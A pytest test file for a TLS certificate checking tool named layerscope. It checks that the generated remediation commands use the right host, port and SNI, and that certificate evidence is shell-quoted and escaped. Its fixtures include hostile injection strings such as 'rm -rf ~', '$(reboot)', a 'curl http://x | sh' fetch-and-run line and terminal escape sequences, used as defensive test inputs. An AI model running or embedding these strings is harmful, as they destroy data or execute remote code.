"""Remediation content: every finding code, filled with the report's real values, safely."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from layerscope.explain import (
    REMEDIATION_CODES,
    RemediationContext,
    remediation_for,
)
from layerscope.model import Remediation
from layerscope.model.codes import CODES, codes_of_scope
from layerscope.model.evidence import SHAPES, shape_keys

# Every code of the catalogue (layerscope/model/codes.py, docs/findings.md): the JSON contract.
PER_LAYER_CODES = codes_of_scope("layer")
CROSS_LAYER_CODES = codes_of_scope("site")
HTTP_CODES = codes_of_scope("http")
ALL_CODES = PER_LAYER_CODES + CROSS_LAYER_CODES + HTTP_CODES

# Codes whose fix happens where the certificate is served: on the layer's own side only.
SERVED_AT_LAYER_CODES = (
    "not_tls",
    "handshake_failed",
    "expired",
    "expiring_soon",
    "not_yet_valid",
    "hostname_mismatch",
    "self_signed",
    "incomplete_chain",
    "wrong_order",
    "root_in_chain",
    "unrelated_cert_in_chain",
    "expired_intermediate",
    "weak_signature",
    "weak_key",
    "default_cert_without_sni",
    "ocsp_staple_missing",
    "ocsp_staple_invalid",
    "revoked",
    "unparseable_certificate",
    "chain_differs_from_origin",
    "san_differs",
    "hsts_missing",
)

HOSTILE = (
    "evil.example; rm -rf ~",
    "$(reboot)",
    "`reboot`",
    "\x1b]0;owned\x07\x1b[2J",
    "a' ; curl http://x | sh ; '",
    "x\n rm -rf /",
)


def ctx(**overrides: Any) -> RemediationContext:
    """A context for an IPv4 edge of example.com, with ``overrides`` applied."""
    values: dict[str, Any] = {
        "host": "example.com",
        "port": 443,
        "sni": "example.com",
        "address": "203.0.113.7",
        "layer_port": 443,
        "role": "edge",
    }
    values.update(overrides)
    return RemediationContext(**values)


def commands(rem: Remediation) -> list[str]:
    """Every command of a remediation: steps, reproduce and verify."""
    return [c for step in rem.steps for c in step.commands] + [rem.reproduce, rem.verify]


def texts(rem: Remediation) -> list[str]:
    """Every human text of a remediation."""
    return [rem.meaning, rem.why_untrusted, *(step.text for step in rem.steps)]


def wheres(rem: Remediation) -> set[str]:
    """The places the steps of a remediation happen."""
    return {step.where for step in rem.steps}


def arg_after(command: str, flag: str) -> str:
    """The shell word that follows ``flag`` in ``command``."""
    words = shlex.split(command)
    return words[words.index(flag) + 1]


def test_every_findings_code_has_specific_remediation() -> None:
    """REMEDIATION_CODES is exactly the catalogue of finding codes."""
    assert set(ALL_CODES) == REMEDIATION_CODES
    assert len(ALL_CODES) == len(set(ALL_CODES))
    assert set(SERVED_AT_LAYER_CODES) <= CODES


@pytest.mark.parametrize("code", ALL_CODES)
@pytest.mark.parametrize("role", ["edge", "origin"])
def test_reproduce_command_targets_the_layer_address_port_and_sni(code: str, role: str) -> None:
    """The reproduce command connects to that layer's address and port with the SNI sent."""
    c = ctx(role=role, address="198.51.100.9", layer_port=8443, sni="www.example.com")
    rem = remediation_for(code, c)
    assert "198.51.100.9" in rem.reproduce
    assert "8443" in rem.reproduce
    if code == "default_cert_without_sni":
        assert "-noservername" in rem.reproduce
        assert "-servername" not in rem.reproduce
    else:
        assert "www.example.com" in rem.reproduce
    if "openssl s_client" in rem.reproduce:
        assert arg_after(rem.reproduce, "-connect") == "198.51.100.9:8443"


@pytest.mark.parametrize("code", [*ALL_CODES, "no_such_code"])
def test_remediation_is_complete_short_and_plain_text(code: str) -> None:
    """Meaning, why, steps and verify are filled in, without markdown."""
    rem = remediation_for(code, ctx())
    assert rem.meaning and rem.why_untrusted and rem.verify and rem.reproduce
    assert rem.steps and rem.steps[-1].where == "verify"
    assert rem.verify in rem.steps[-1].commands
    for step in rem.steps:
        assert step.where in {"origin", "edge", "client", "verify"}
    for text in texts(rem):
        assert "`" not in text and "**" not in text
        assert len(text) < 400


@pytest.mark.parametrize("code", SERVED_AT_LAYER_CODES)
def test_edge_finding_gets_edge_steps_and_no_origin_steps(code: str) -> None:
    """A finding on an edge is fixed at the CDN: no origin-server steps."""
    rem = remediation_for(code, ctx(role="edge"))
    assert "edge" in wheres(rem)
    assert "origin" not in wheres(rem)


@pytest.mark.parametrize("code", SERVED_AT_LAYER_CODES)
def test_origin_finding_gets_origin_steps_and_no_edge_steps(code: str) -> None:
    """A finding on the origin is fixed on the web server: no CDN steps."""
    rem = remediation_for(code, ctx(role="origin"))
    assert "origin" in wheres(rem)
    assert "edge" not in wheres(rem)


def test_site_wide_finding_gets_both_origin_and_edge_steps() -> None:
    """Without a role the fix may be on either side, so both are given."""
    rem = remediation_for("expired", ctx(role="", address=""))
    assert {"origin", "edge"} <= wheres(rem)
    assert arg_after(rem.reproduce, "-connect") == "example.com:443"


def test_stale_edge_is_fixed_at_the_edge_and_edge_ahead_at_the_origin() -> None:
    """Cross-layer findings point at the side that lags behind."""
    assert wheres(remediation_for("stale_edge", ctx(role="edge"))) == {"edge", "verify"}
    assert wheres(remediation_for("edges_disagree", ctx(role=""))) == {"edge", "verify"}
    ahead = remediation_for("edge_ahead_of_origin", ctx(role="origin", address="192.0.2.1"))
    assert wheres(ahead) == {"origin", "verify"}


def test_origin_steps_show_nginx_and_apache_config_and_reload() -> None:
    """Origin steps carry the real host in file paths and the test-then-reload commands."""
    rem = remediation_for("expired", ctx(role="origin"))
    cmds = commands(rem)
    assert "ssl_certificate /etc/ssl/example.com/fullchain.pem;" in cmds
    assert "ssl_certificate_key /etc/ssl/example.com/privkey.pem;" in cmds
    assert "nginx -t && systemctl reload nginx" in cmds
    assert "SSLCertificateFile /etc/ssl/example.com/fullchain.pem" in cmds
    assert any(c.startswith("SSLCertificateChainFile ") for c in cmds)
    assert "apachectl configtest && systemctl reload apache2" in cmds


@pytest.mark.parametrize(
    ("cdn", "marker"),
    [
        ("Cloudflare", "SSL/TLS > Edge Certificates"),
        ("CloudFront", "us-east-1"),
        ("Amazon CloudFront", "aws cloudfront create-invalidation --distribution-id"),
        ("Fastly", "fastly"),
        ("Akamai", "Certificate Provisioning System (CPS)"),
        ("Azure Front Door", "custom domain's HTTPS settings"),
        ("Google Cloud CDN", "certificate map"),
        ("Bunny", "Hostnames"),
    ],
)
def test_known_cdn_is_named_with_where_its_certificate_is_managed(cdn: str, marker: str) -> None:
    """When the CDN is recognised, the edge steps say where in that CDN the fix is done."""
    rem = remediation_for("stale_edge", ctx(cdn=cdn))
    everything = " ".join(texts(rem) + commands(rem))
    assert marker in everything
    assert cdn.split()[-1] in everything


def test_unknown_cdn_name_still_appears_in_generic_edge_steps() -> None:
    """An unrecognised CDN is named, with generic upload-and-purge advice."""
    rem = remediation_for("expired", ctx(cdn="ExampleCDN"))
    assert any("ExampleCDN" in step.text and "purge" in step.text for step in rem.steps)


def test_cloudfront_invalidation_wildcard_is_quoted() -> None:
    """The '/*' path is quoted so the shell does not glob it."""
    rem = remediation_for("stale_edge", ctx(cdn="CloudFront"))
    invalidation = next(c for c in commands(rem) if "create-invalidation" in c)
    assert "--paths '/*'" in invalidation


def test_placeholders_are_not_angle_brackets_that_the_shell_would_redirect() -> None:
    """Unknown IDs are written as CAPITAL_WORDS, never <ID> (a shell redirection)."""
    for cdn in (
        "Cloudflare",
        "CloudFront",
        "Fastly",
        "Akamai",
        "Azure Front Door",
        "Google Cloud CDN",
        "Bunny",
    ):
        for cmd in commands(remediation_for("stale_edge", ctx(cdn=cdn))):
            assert "<" not in cmd.replace("</dev/null", "")


@pytest.mark.parametrize("code", ALL_CODES)
def test_ipv6_layer_is_bracketed_in_connect_and_resolve(code: str) -> None:
    """IPv6 addresses are bracketed for openssl -connect and curl --resolve."""
    rem = remediation_for(code, ctx(role="origin", address="2001:db8::1", layer_port=8443))
    for cmd in commands(rem):
        if "-connect" in cmd:
            assert arg_after(cmd, "-connect") == "[2001:db8::1]:8443"
        if "--resolve" in cmd:
            assert arg_after(cmd, "--resolve") == "example.com:8443:[2001:db8::1]"
        if "--origin" in cmd:
            assert arg_after(cmd, "--origin") == "[2001:db8::1]:8443"


def test_http_codes_reproduce_with_curl_pinned_to_the_layer() -> None:
    """HTTP findings reproduce with curl --resolve to the layer, SNI and Host of the site."""
    for code in HTTP_CODES:
        rem = remediation_for(code, ctx())
        assert rem.reproduce.startswith("curl ")
        assert arg_after(rem.reproduce, "--resolve") == "example.com:443:203.0.113.7"
        assert "https://example.com:443/" in shlex.split(rem.reproduce)


def test_curl_sends_the_site_as_host_when_sni_differs() -> None:
    """With --sni, curl connects by the SNI name and sends the site name as Host."""
    rem = remediation_for("hsts_missing", ctx(sni="edge.example.net"))
    assert arg_after(rem.reproduce, "-H") == "Host: example.com"
    assert arg_after(rem.reproduce, "--resolve") == "edge.example.net:443:203.0.113.7"


@pytest.mark.parametrize("code", [*ALL_CODES, "no_such_code"])
@pytest.mark.parametrize("role", ["edge", "origin", ""])
def test_commands_printing_certificate_or_header_text_end_in_cat_v(code: str, role: str) -> None:
    """Anything that prints peer-controlled text is piped through cat -v."""
    rem = remediation_for(code, ctx(role=role))
    printers = (
        "-showcerts",
        "-text",
        "-subject",
        "-issuer",
        "-print_certs",
        "curl -sv",
        "-status",
        "-D -",
        "-ext ",
        "nginx -T",
        "apachectl -S",
        "grep -rn",
    )
    for cmd in commands(rem):
        if any(p in cmd for p in printers):
            assert cmd.endswith("| cat -v"), cmd


def shell_live_text(command: str) -> str:
    """The parts of ``command`` a POSIX shell interprets: everything outside single quotes.

    Double-quoted text is kept, since the shell still expands ``$(...)`` in it.
    """
    live: list[str] = []
    in_double = False
    i = 0
    while i < len(command):
        ch = command[i]
        if ch == '"':
            in_double = not in_double
        elif ch == "'" and not in_double:
            end = command.index("'", i + 1)  # an unterminated quote fails the test loudly
            live.append(" ")
            i = end + 1
            continue
        if ch == "\\":
            live.append(command[i : i + 2])
            i += 2
            continue
        live.append(ch)
        i += 1
    return "".join(live)


def test_shell_live_text_drops_only_single_quoted_text() -> None:
    """The test helper treats shlex-quoted words as inert and the rest as live."""
    quoted = shlex.quote("a'; rm -rf ~")
    assert "rm -rf" not in shell_live_text(f"echo {quoted}")
    assert "rm -rf" in shell_live_text('echo "$(rm -rf ~)"')
    assert "rm -rf" not in shell_live_text("""echo 'a'"'"'b' '; rm -rf ~'""")


# Every key an evidence shape declares: the only keys a remediation can read (mypy rejects
# a read of any other key through the shapes).
SHAPE_KEYS = sorted(
    {key for shape in SHAPES.values() for part in shape_keys(shape) for key in part}
)


def hostile_evidence() -> dict[str, Any]:
    """Evidence with hostile strings in every key a remediation may read, nested values in
    the shapes the deciders write."""
    keys = SHAPE_KEYS
    ev: dict[str, Any] = {key: list(HOSTILE) for key in keys}
    ev["reference_sha256"] = HOSTILE[1]
    ev["served_sha256"] = HOSTILE[3]
    ev["ca_issuers"] = ["http://x/$(reboot)", "http://x/;rm -rf ~"]
    # The nested shapes analyse.py and compare.py produce, with hostile strings inside.
    certs = [
        {
            "subject": h,
            "sha256": h,
            "source": f"AIA {h}",
            "key_type": h,
            "key_bits": h,
            "signature_algorithm": h,
        }
        for h in HOSTILE
    ]
    for key in ("found", "certificates", "unrelated", "intermediates", "reference_intermediates"):
        ev[key] = certs
    for key in ("served", "reference", "edge", "origin"):
        ev[key] = {"sha256": HOSTILE[1], "subject": HOSTILE[0]}
    ev["groups"] = [{"sha256": "ab" * 32, "layers": list(HOSTILE)}]
    ev["default_names"] = ev["expected_order"] = list(HOSTILE)
    ev["reference_spki_sha256"] = HOSTILE[2]
    ev["older_by_days"] = HOSTILE[0]
    ev["urls"] = [{"element": h, "attribute": h, "url": h, "active": True} for h in HOSTILE]
    ev["layers"] = [{"address": h, "status": h, "hsts": h, "spki_sha256": h} for h in HOSTILE]
    ev["differences"] = ["status", "hsts"]
    return ev


def hostile_scalars() -> dict[str, Any]:
    """Evidence with one hostile string (not a list) in every key a remediation may read."""
    return {key: HOSTILE[i % len(HOSTILE)] for i, key in enumerate(SHAPE_KEYS)}


HOSTILE_FORMS = {"lists": hostile_evidence, "strings": hostile_scalars}


@pytest.mark.parametrize("form", sorted(HOSTILE_FORMS))
@pytest.mark.parametrize("code", [*ALL_CODES, "no_such_code"])
@pytest.mark.parametrize("role", ["edge", "origin", ""])
def test_hostile_evidence_never_reaches_a_command_unquoted(code: str, role: str, form: str) -> None:
    """Hostile evidence values appear in commands only shell-quoted, never raw."""
    rem = remediation_for(
        code,
        ctx(
            role=role,
            evidence=HOSTILE_FORMS[form](),
            cdn="Cloudflare",
            extra_ca_files=("/tmp/ca; rm -rf ~.pem",),
        ),
    )
    for cmd in commands(rem):
        live = shell_live_text(cmd)
        for danger in ("rm -rf", "reboot", "| sh", "owned"):
            assert danger not in live, cmd
        assert "\x1b" not in cmd and "\x07" not in cmd and "\n" not in cmd


@pytest.mark.parametrize("form", sorted(HOSTILE_FORMS))
@pytest.mark.parametrize("code", ALL_CODES)
def test_hostile_evidence_control_characters_are_made_visible_in_texts(
    code: str, form: str
) -> None:
    """ESC and BEL from certificates are escaped in texts, not passed through."""
    rem = remediation_for(code, ctx(role="", evidence=HOSTILE_FORMS[form]()))
    for text in texts(rem):
        assert "\x1b" not in text and "\x07" not in text and "\n" not in text


@pytest.mark.parametrize("code", ALL_CODES)
def test_odd_evidence_shapes_do_not_raise(code: str) -> None:
    """Evidence of unexpected types (numbers, None, mappings) still gives a remediation."""
    ev = {
        "missing": 5,
        "names": None,
        "urls": {"a": 1},
        "reference_sha256": 3,
        "extra_ca_files": [None, 7],
        "ca_issuers": [{"url": "http://ca.example/r.der"}],
    }
    rem = remediation_for(code, ctx(evidence=ev))
    assert rem.reproduce


def test_unknown_code_gets_a_generic_remediation() -> None:
    """An unknown code never raises: it gets reproduce and re-check commands."""
    rem = remediation_for("some_future_code", ctx())
    assert "some_future_code" in rem.meaning
    assert arg_after(rem.reproduce, "-connect") == "203.0.113.7:443"
    assert rem.verify == "layerscope check example.com --edge 203.0.113.7"


def test_incomplete_chain_names_missing_certificate_and_builds_fullchain() -> None:
    """The missing intermediate is named in text, never in a command; fullchain is leaf first."""
    missing = "CN=R11,O=Let's Encrypt,C=US"
    rem = remediation_for("incomplete_chain", ctx(role="origin", evidence={"missing": [missing]}))
    assert any(missing in step.text for step in rem.steps)
    assert not any("R11" in cmd for cmd in commands(rem))
    cmds = commands(rem)
    assert "cat example.com.crt intermediate.pem > fullchain.pem" in cmds
    assert "openssl verify -untrusted intermediate.pem example.com.crt" in cmds


def test_incomplete_chain_fetches_intermediate_from_a_plain_aia_url() -> None:
    """Where the analysis found the intermediate over AIA, the URL becomes a download command."""
    url = "http://r11.i.lencr.org/"
    found = [{"subject": "CN=R11", "sha256": "ab" * 32, "source": f"AIA {url}"}]
    rem = remediation_for(
        "incomplete_chain", ctx(role="origin", evidence={"missing": ["CN=R11"], "found": found})
    )
    assert f"curl -sf -o intermediate.der {url}" in commands(rem)
    assert any(f"found via: AIA {url}" in step.text for step in rem.steps)


def test_incomplete_chain_on_an_edge_asks_to_upload_the_chain_at_the_cdn() -> None:
    """On an edge the intermediate goes into the CDN's chain field."""
    rem = remediation_for(
        "incomplete_chain", ctx(evidence={"missing": ["CN=Sub CA"]}, cdn="Cloudflare")
    )
    edge = [s for s in rem.steps if s.where == "edge"]
    assert "CN=Sub CA" in edge[0].text and "intermediate" in edge[0].text


def test_wrong_order_and_root_in_chain_rebuild_the_chain_leaf_first_without_root() -> None:
    """Both rebuild fullchain.pem from the leaf, then intermediates, without the root."""
    for code in ("wrong_order", "root_in_chain", "unrelated_cert_in_chain"):
        cmds = commands(remediation_for(code, ctx(role="origin")))
        assert "cat example.com.crt intermediate.pem > fullchain.pem" in cmds


def test_hostname_mismatch_names_covered_names_and_reissues_for_the_site() -> None:
    """The names the certificate covers are listed; certbot reissues for the site name."""
    rem = remediation_for(
        "hostname_mismatch",
        ctx(role="origin", evidence={"names": ["other.example", "*.other.example"]}),
    )
    assert "other.example; *.other.example" in rem.meaning
    assert "certbot certonly -d example.com" in commands(rem)


def test_san_differs_reissues_with_plain_names_only() -> None:
    """Plain DNS names from the evidence reach certbot (quoted); anything else does not."""
    rem = remediation_for(
        "san_differs",
        ctx(
            role="origin",
            evidence={"missing_names": ["www.example.com", "*.example.com", "bad.example; reboot"]},
        ),
    )
    certbot = next(c for c in commands(rem) if c.startswith("certbot"))
    assert shlex.split(certbot) == [
        "certbot",
        "certonly",
        "-d",
        "example.com",
        "-d",
        "www.example.com",
        "-d",
        "*.example.com",
    ]
    assert "bad.example; reboot" in rem.meaning


def test_private_ca_imports_the_company_ca_on_each_client_os() -> None:
    """Client steps import the --extra-ca file on Windows, macOS and Debian/Ubuntu."""
    rem = remediation_for("private_ca", ctx(role="origin", extra_ca_files=("/etc/corp/root.pem",)))
    cmds = commands(rem)
    assert "certutil -addstore root root.pem" in cmds
    assert (
        "security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain root.pem"
    ) in cmds
    assert "cp root.pem /usr/local/share/ca-certificates/root.crt && update-ca-certificates" in cmds
    assert rem.verify.endswith("--extra-ca /etc/corp/root.pem")


def test_client_import_uses_a_neutral_file_name_for_odd_paths() -> None:
    """A CA path with shell-special characters is shown in text and renamed in commands."""
    rem = remediation_for("private_ca", ctx(extra_ca_files=("/tmp/my ca$(x).pem",)))
    client = [s for s in rem.steps if s.where == "client"]
    assert "/tmp/my ca$(x).pem" in client[0].text
    assert client[0].commands == ("certutil -addstore root company-ca.crt",)


def test_stale_edge_verify_expects_the_reference_fingerprint() -> None:
    """The verify step names the reference fingerprint in OpenSSL's colon form."""
    evidence = {
        "served": {"sha256": "cd" * 32, "subject": "CN=example.com"},
        "reference": {"sha256": "ab" * 32, "subject": "CN=example.com"},
        "older_by_days": 59.96,
    }
    rem = remediation_for("stale_edge", ctx(evidence=evidence))
    assert "sha256 Fingerprint=AB:AB:AB" in rem.steps[-1].text
    assert "serves cdcdcdcdcdcd" in rem.meaning and "reference abababababab" in rem.meaning
    assert "60 days older" in rem.meaning
    assert "-fingerprint -sha256" in rem.verify


def test_fingerprint_that_is_not_hex_is_ignored() -> None:
    """A malformed fingerprint is left out rather than shown as if it were one."""
    rem = remediation_for("stale_edge", ctx(evidence={"reference": {"sha256": "zz" * 32}}))
    assert "Fingerprint=" not in rem.steps[-1].text


def test_edges_disagree_lists_which_edges_serve_which_certificate() -> None:
    """Each distinct leaf is named by its short id with the edges serving it."""
    groups = [
        {"sha256": "ab" * 32, "layers": ["192.0.2.1", "192.0.2.2"]},
        {"sha256": "cd" * 32, "layers": ["192.0.2.3"]},
    ]
    rem = remediation_for("edges_disagree", ctx(role="", evidence={"groups": groups}))
    assert "abababababab on 192.0.2.1, 192.0.2.2" in rem.meaning
    assert "cdcdcdcdcdcd on 192.0.2.3" in rem.meaning


def test_weak_findings_name_each_certificate_with_its_algorithm_or_key() -> None:
    """weak_signature and weak_key list the certificates the analysis found."""
    sig = [{"subject": "CN=old", "sha256": "00", "signature_algorithm": "sha1WithRSAEncryption"}]
    key = [{"subject": "CN=small", "sha256": "00", "key_type": "RSA", "key_bits": 1024}]
    weak_sig = remediation_for("weak_signature", ctx(evidence={"certificates": sig}))
    weak_key = remediation_for("weak_key", ctx(evidence={"certificates": key}))
    assert "CN=old (sha1WithRSAEncryption)" in weak_sig.meaning
    assert "CN=small (RSA 1024)" in weak_key.meaning


def test_default_cert_without_sni_verifies_without_sni() -> None:
    """Reproduce and verify both omit SNI, since that is the observation."""
    rem = remediation_for("default_cert_without_sni", ctx())
    assert "-noservername" in rem.verify
    assert "-servername" not in rem.verify


def test_layer_check_command_carries_port_sni_and_extra_ca() -> None:
    """The layerscope re-check repeats the options that shape the result."""
    rem = remediation_for(
        "untrusted_root",
        ctx(
            role="origin",
            port=8443,
            sni="alt.example.com",
            layer_port=9443,
            extra_ca_files=("/etc/ca.pem",),
        ),
    )
    assert shlex.split(rem.verify) == [
        "layerscope",
        "check",
        "example.com",
        "--port",
        "8443",
        "--sni",
        "alt.example.com",
        "--origin",
        "203.0.113.7:9443",
        "--extra-ca",
        "/etc/ca.pem",
    ]


def test_watch_command_keeps_the_options_that_shape_the_result() -> None:
    """The re-probe command repeats --port, --sni and --extra-ca."""
    rem = remediation_for(
        "stale_edge", ctx(port=8443, sni="alt.example.com", extra_ca_files=("/etc/ca.pem",))
    )
    watch = next(c for s in rem.steps if "re-probe" in s.text for c in s.commands)
    assert shlex.split(watch) == [
        "layerscope",
        "check",
        "example.com",
        "--port",
        "8443",
        "--sni",
        "alt.example.com",
        "--extra-ca",
        "/etc/ca.pem",
    ]


def test_dns_only_azure_service_gets_generic_edge_advice() -> None:
    """Azure Traffic Manager holds no certificate, so no Front Door steps are given."""
    rem = remediation_for("expired", ctx(cdn="Azure Traffic Manager"))
    everything = " ".join(texts(rem) + commands(rem))
    assert "Azure Traffic Manager" in everything
    assert "az afd" not in everything


# --------------------------------------------------------------------------- facts the deciders
# write and remediation reads (issue #10: some were read under keys no decider wrote)


def test_ocsp_staple_invalid_says_why_the_staple_is_unusable() -> None:
    """The staple's problem (evidence ``message``) is in the meaning."""
    message = "the stapled OCSP response expired: its nextUpdate 2026-11-30 is before now"
    rem = remediation_for("ocsp_staple_invalid", ctx(evidence={"message": message}))
    assert rem.meaning == (
        f"The stapled OCSP response is for another certificate, expired, or unparsable ({message})."
    )


def test_http_differs_lists_which_layers_answer_what() -> None:
    """For each field that differs (evidence ``differences``), the values and the layers
    that answer them (evidence ``layers``)."""
    layers = [
        {"address": "192.0.2.1", "status": 200, "hsts": "max-age=300"},
        {"address": "192.0.2.2", "status": 200, "hsts": ""},
        {"address": "192.0.2.3", "status": 301, "hsts": "max-age=300"},
    ]
    rem = remediation_for(
        "http_differs",
        ctx(role="", evidence={"layers": layers, "differences": ["status", "hsts"]}),
    )
    assert rem.meaning == (
        "Layers answer with different HTTP status codes or HSTS policies (status 200 on "
        "192.0.2.1, 192.0.2.2 vs 301 on 192.0.2.3; HSTS max-age=300 on 192.0.2.1, 192.0.2.3 "
        "vs none on 192.0.2.2)."
    )
    only_hsts = remediation_for(
        "http_differs", ctx(role="", evidence={"layers": layers, "differences": ["hsts"]})
    )
    assert "status 200" not in only_hsts.meaning and "none on 192.0.2.2" in only_hsts.meaning


def test_incomplete_chain_downloads_from_the_leafs_ca_issuers_url() -> None:
    """Found on another layer (or nowhere), the intermediate is still downloaded from the
    caIssuers URL of the certificate that needs it (evidence ``ca_issuers``)."""
    url = "http://ca.example/issuing.der"
    found = [{"subject": "CN=Sub CA", "sha256": "ab" * 32, "source": "served by 192.0.2.2:443"}]
    rem = remediation_for(
        "incomplete_chain",
        ctx(
            role="origin", evidence={"missing": ["CN=Sub CA"], "found": found, "ca_issuers": [url]}
        ),
    )
    assert f"curl -sf -o intermediate.der {url}" in commands(rem)
    bare = remediation_for(
        "incomplete_chain", ctx(role="origin", evidence={"missing": ["CN=Sub CA"], "found": found})
    )
    assert not any(c.startswith("curl") for c in commands(bare))
    assert any("-ext authorityInfoAccess" in c for c in commands(bare))


@pytest.mark.parametrize("code", ["unreachable", "handshake_failed"])
def test_connection_findings_quote_the_probe_message(code: str) -> None:
    """The probe's message (evidence ``message``, which names a TLS alert) is in the text."""
    message = "the server refused the handshake: tlsv1 alert unrecognized name"
    evidence = {"error_kind": "tls_alert", "message": message, "elapsed_ms": 3.0}
    rem = remediation_for(code, ctx(evidence=evidence))
    assert message in rem.meaning
